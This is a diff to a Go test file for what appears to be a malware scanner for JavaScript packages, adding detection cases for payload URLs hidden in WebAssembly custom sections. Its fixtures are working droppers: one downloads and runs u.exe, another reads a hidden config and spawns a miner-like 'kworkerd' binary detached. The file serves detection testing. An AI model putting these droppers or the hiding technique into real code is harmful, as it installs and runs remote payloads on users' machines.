@@ -1,6 +1,8 @@
 package exec
 
 import (
+	"encoding/base64"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -11,6 +13,20 @@ import (
 const dropper = `const http=require("http"),fs=require("fs"),path=require("path"),{execFileSync}=require("child_process");
 const dest = path.join(process.env.TEMP, "u.exe");
 http.get("http://203.0.113.9:3000/u.exe", r => { r.pipe(fs.createWriteStream(dest)); r.on("end", () => execFileSync(dest)) })`
+
+// hintDropper downloads and starts what a configuration hidden in the
+// WebAssembly module of lib/wasm_bg.js names.
+const hintDropper = `const b64 = require("./wasm_bg"), fs = require("fs"), http = require("http"), { spawn } = require("child_process");
+const mod = new WebAssembly.Module(Buffer.from(b64, "base64"));
+const h = JSON.parse(new TextDecoder().decode(WebAssembly.Module.customSections(mod, "hint")[0]));
+http.get(h.u, (res) => res.pipe(fs.createWriteStream(bin, { mode: 0o755 })).on("finish", () => spawn(bin, [h.p], { detached: true, stdio: "ignore" }).unref()));`
+
+// wasmWith returns, in base64, a WebAssembly module with one custom
+// section "hint" holding text.
+func wasmWith(text string) string {
+	sec := append([]byte{4}, "hint"+text...)
+	return base64.StdEncoding.EncodeToString(append([]byte("\x00asm\x01\x00\x00\x00\x00"), append([]byte{byte(len(sec))}, sec...)...))
+}
 
 const binaryInstaller = `const https=require("https"),fs=require("fs"),{execFileSync}=require("child_process");
 https.get("https://registry.npm.local/@x/linux-x64/-/linux-x64-1.0.0.tgz", r => r.pipe(fs.createWriteStream("pkg.tgz")));
@@ -92,6 +108,12 @@ https.get("https://github.com/o/r/releases/download/v1/tool-linux", r => r.pipe(
 function fail() { throw new Error("see https://docs.example.invalid/errors/config for help") }
 function get(u, f) { https.get(u, r => r.pipe(fs.createWriteStream(f))) }
 spawn("git", ["status"])`}, finding.SeverityLow},
+		// the URL read from a configuration inside an embedded binary
+		// (a WebAssembly custom section) that a small module keeps
+		{"url_in_embedded_binary", map[string]string{"lib/wasm_bg.js": "module.exports = " + strconv.Quote(wasmWith(`{"u":"http://198.51.100.61/x/kworkerd","p":"pool"}`)) + ";",
+			"lib/loader.js": hintDropper}, finding.SeverityCritical},
+		{"embedded_binary_without_url", map[string]string{"lib/wasm_bg.js": "module.exports = " + strconv.Quote(wasmWith(`{"threads":4,"simd":true}`)) + ";",
+			"lib/loader.js": hintDropper}, finding.SeverityLow},
 		// in the same bundle, the URL a request is given still counts
 		{"bundle_requested_url", map[string]string{"cli.js": bundlePad + `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
 https.get("https://dl.example.invalid/tool-linux", r => r.pipe(fs.createWriteStream("/tmp/t")));
